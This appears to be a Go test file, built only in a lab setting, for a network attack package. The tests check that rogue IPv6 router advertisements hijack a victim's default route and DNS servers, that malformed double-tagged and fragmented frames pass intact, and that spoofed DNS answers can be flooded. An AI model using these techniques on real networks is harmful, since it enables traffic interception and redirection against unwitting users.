//go:build lab

package inject

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// The victim's kernel takes the attacker for its router.
func TestAdvertise(t *testing.T) {
	leaves(t)
	h := newHub(t)
	run(t, h.victim, "sysctl -qw net.ipv6.conf.eth0.accept_ra=2 net.ipv6.conf.eth0.accept_ra_defrtr=1; ip -6 route del default")
	tap := h.tap(t)
	i, err := Advertise(h.attacker, "eth0", AdvertiseConfig{
		Servers: addrs("2001:db8:66::53", "2001:db8:66::54"), Lifetime: 60, RouterLifetime: 1800,
		Prefix: netip.MustParsePrefix("2001:db8:99::/64"), Every: 50 * time.Millisecond,
	})
	i = end(t, i, err)
	isRA := func(p gopacket.Packet) bool { return p.Layer(layers.LayerTypeICMPv6RouterAdvertisement) != nil }
	tap.next("advertisement", isRA)
	p := tap.next("another", isRA)
	ip := p.NetworkLayer().(*layers.IPv6)
	same(t, "header", []string{"fe80::ff:fe00:2", "ff02::1"}, []string{ip.SrcIP.String(), ip.DstIP.String()})
	same(t, "hop limit", 255, ip.HopLimit)
	same(t, "destination", "33:33:00:00:00:01", p.LinkLayer().LinkFlow().Dst().String())
	ra := p.Layer(layers.LayerTypeICMPv6RouterAdvertisement).(*layers.ICMPv6RouterAdvertisement)
	same(t, "lifetime", 1800, ra.RouterLifetime)
	options := map[layers.ICMPv6Opt]string{}
	for _, o := range ra.Options {
		options[o.Type] = string(o.Data)
	}
	a, b := netip.MustParseAddr("2001:db8:66::53").As16(), netip.MustParseAddr("2001:db8:66::54").As16()
	same(t, "RDNSS", "\x00\x00\x00\x00\x00\x3c"+string(a[:])+string(b[:]), options[optRDNSS])
	same(t, "source", "\x02\x00\x00\x00\x00\x02", options[layers.ICMPv6OptSourceAddress])

	if route := run(t, h.victim, "ip -6 route show default"); !strings.Contains(route, "via fe80::ff:fe00:2 dev eth0 proto ra") {
		t.Errorf("default route: %q", route)
	}
	if a := run(t, h.victim, "ip -6 addr show dev eth0"); !strings.Contains(a, "2001:db8:99:") {
		t.Errorf("no address of the prefix: %s", a)
	}
	if i.Count() < 2 {
		t.Errorf("count %d", i.Count())
	}
}

// paths are from the server to the victim, as a switch would see them.
func paths() (path, path6 Path) {
	path = Path{
		SrcMAC: net.HardwareAddr{2, 0, 0, 0, 0, 3}, DstMAC: net.HardwareAddr{2, 0, 0, 0, 0, 1},
		Src: netip.MustParseAddrPort(serverAddr + ":53"), Dst: netip.MustParseAddrPort(victimAddr + ":40000"),
	}
	path6 = path
	path6.Src, path6.Dst = netip.MustParseAddrPort("["+serverAddr6+"]:53"), netip.MustParseAddrPort("["+victimAddr6+"]:40000")
	return path, path6
}

// All malformed frames arrive as they were made, but for the outermost tag, which
// the kernel keeps beside a frame.
func TestMalformed(t *testing.T) {
	leaves(t)
	h := newHub(t)
	frames, err := Malformed(paths())
	if err != nil {
		t.Fatal(err)
	}
	tap := h.tap(t)
	if err := Send(h.attacker, "eth0", frames); err != nil {
		t.Fatal(err)
	}
	var tags, fragments int
	for n, f := range frames {
		p := tap.next(fmt.Sprintf("frame %d: %x", n, f), func(p gopacket.Packet) bool {
			untagged := slices.Delete(slices.Clone(f), 12, min(16, len(f)))
			return bytes.Equal(p.Data(), f) || bytes.Equal(p.Data(), untagged)
		})
		n := 0
		for _, l := range p.Layers() {
			switch l.LayerType() {
			case layers.LayerTypeDot1Q:
				n++
			case layers.LayerTypeIPv6Fragment:
				fragments++
			}
		}
		tags = max(tags, n)
	}
	same(t, "tags that are left", 2, tags)
	same(t, "fragments", 5, fragments)
	if len(frames) < 60 {
		t.Errorf("%d frames", len(frames))
	}
}

func TestStorm(t *testing.T) {
	leaves(t)
	h := newHub(t)
	path, _ := paths()
	frame, err := path.frame(header{ttl: 64}, plain())
	if err != nil {
		t.Fatal(err)
	}
	tap := h.tap(t)
	i, err := Storm(h.attacker, "eth0", [][]byte{frame}, 1000, 200*time.Millisecond)
	i = end(t, i, err)
	same(t, "answer", []string{"198.18.66.66"}, says(message(t, tap.next("frame", from(53)))))
	same(t, "wait", nil, i.Wait())
	if n := i.Count(); n < 1 || n > 205 {
		t.Errorf("%d frames in 0.2 s, at 1000 a second", n)
	}
	if _, err := Storm(h.attacker, "eth0", nil, 1, time.Second); err == nil {
		t.Error("without frames: no error")
	}
	if err := Send(h.attacker, "eth9", nil); err == nil {
		t.Error("no such interface: no error")
	}
}
